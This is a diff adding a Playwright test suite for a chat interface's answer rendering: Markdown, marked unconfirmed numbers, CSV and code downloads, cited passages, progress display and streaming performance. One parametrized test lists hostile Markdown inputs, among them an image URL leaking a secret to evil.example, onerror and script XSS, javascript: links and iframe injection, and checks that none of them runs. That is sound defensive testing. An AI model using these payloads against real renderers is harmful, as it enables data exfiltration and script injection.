@@ -1,0 +1,110 @@
+"""The answer in words: Markdown that loads nothing, marked numbers, code blocks, cited passages, many deltas."""
+
+import pytest
+
+LONG_TASKS = """() => {
+  window.longest = 0;
+  new PerformanceObserver((list) => {
+    for (const entry of list.getEntries()) window.longest = Math.max(window.longest, entry.duration);
+  }).observe({ type: "longtask", buffered: true });
+}"""
+
+SHIFTS = """() => {
+  window.shifted = 0;
+  new PerformanceObserver((list) => {
+    for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shifted += entry.value;
+  }).observe({ type: "layout-shift", buffered: true });
+}"""
+
+
+def test_markdown_is_drawn(obedient, ask):
+    turn = ask(obedient, "say **Bold** and `code`\\n\\n| a | b |\\n|---|---|\\n| 1 | 2 |\\n\\n- x\\n- y", "answered")
+    assert turn.locator(".words strong").inner_text() == "Bold"
+    assert turn.locator(".words td").all_inner_texts() == ["1", "2"]
+    assert turn.locator(".words li").count() == 2
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "![x](https://evil.example/leak.png?q=secret)",
+        "<img src=x onerror=window.hacked=1> <script>window.hacked=1</script>",
+        "[click](javascript:window.hacked=1)",
+        "<iframe src=https://evil.example></iframe><style>*{display:none}</style>",
+        "[![x](https://evil.example/a.png)](https://evil.example)",
+        "```html\\n<img src=x onerror=window.hacked=1>\\n```",
+        "```csv\\na,b\\n<img src=x onerror=window.hacked=1>,=1+1\\n```",
+    ],
+)
+def test_hostile_markdown_loads_and_runs_nothing(obedient, ask, hostile):
+    turn = ask(obedient, f"say {hostile}", "answered")
+    assert turn.locator(".words").count() == 1
+    assert turn.locator("img, script, iframe, style").count() == 0
+    assert turn.locator("a[href^=javascript]").count() == 0
+    assert obedient.evaluate("window.hacked") is None
+
+
+def test_a_number_that_is_not_confirmed_is_marked(obedient, ask):
+    turn = ask(obedient, "doubt *In all* there were 😀 4711 orders.", "answered")
+    mark = turn.locator("mark.unconfirmed")
+    assert mark.inner_text().startswith("4711")
+    assert mark.get_attribute("title") == "Not confirmed by the result"
+
+
+def test_a_csv_block_is_a_table_that_downloads_its_own_text(obedient, ask):
+    rows = "\\n".join(f"{number},São {number}" for number in range(14))
+    turn = ask(obedient, f"say Here:\\n\\n```csv\\nid,name\\n{rows}\\n```", "answered")
+    assert turn.locator(".csv-preview .count").inner_text() == "first 10 of 14"
+    assert turn.locator(".csv-preview tbody tr").count() == 10
+    with obedient.expect_download() as waiting:
+        turn.locator(".csv-block .download").click()
+    assert waiting.value.suggested_filename.startswith("export_20")
+    assert waiting.value.suggested_filename.endswith(".csv")
+    text = waiting.value.path().read_text("utf-8-sig")
+    assert text.splitlines()[:2] == ["id,name", "0,São 0"]
+    assert len(text.splitlines()) == 15
+
+
+def test_another_code_block_downloads_as_code(obedient, ask):
+    turn = ask(obedient, "say ```python\\nprint('é')\\n```", "answered")
+    button = turn.get_by_role("button", name="Download", exact=True)
+    assert button.get_attribute("title") == "Download code"
+    with obedient.expect_download() as waiting:
+        button.click()
+    assert waiting.value.suggested_filename == "code.py"
+    assert waiting.value.path().read_text("utf-8") == "print('é')\n"
+
+
+def test_a_cited_passage_opens(obedient, ask):
+    turn = ask(obedient, "cite", "answered")
+    turn.locator(".passages summary").click()
+    assert turn.locator(".passages blockquote").inner_text() == "Payment is due within <b>30</b> days."
+    assert "page 4" in turn.locator(".passages summary").inner_text()
+
+
+def test_counted_work_shows_its_share_and_the_time_left(obedient):
+    obedient.fill("#question", "step 0.25")
+    obedient.keyboard.press("Enter")
+    obedient.wait_for_selector(".stage.running .time:has-text('25%')")
+    assert "left" in obedient.inner_text(".stage.running .time")
+    assert "Reading" in obedient.inner_text(".stage.running .more")
+    obedient.keyboard.press("Escape")
+    obedient.wait_for_selector('.turn[data-status="cancelled"]')
+
+
+@pytest.mark.parametrize("order", ["burst", "slowly"])
+def test_five_thousand_deltas_keep_the_page_quick(obedient, ask, order):
+    obedient.evaluate(LONG_TASKS)
+    turn = ask(obedient, f"{order} 5000", "answered")
+    assert "Word 4999 of a long answer" in turn.locator(".words").inner_text()
+    # A machine that others use as well is slower than the 100 ms that are aimed at; a redraw of everything takes seconds.
+    assert obedient.evaluate("window.longest") < 400
+
+
+def test_nothing_jumps_while_an_answer_grows(obedient, ask):
+    ask(obedient, "say first", "answered")
+    obedient.evaluate(SHIFTS)
+    turn = ask(obedient, "grow", "answered")
+    obedient.wait_for_selector(".plot[data-drawn]")
+    assert turn.locator(".words").count() == 1
+    assert obedient.evaluate("window.shifted") < 0.05
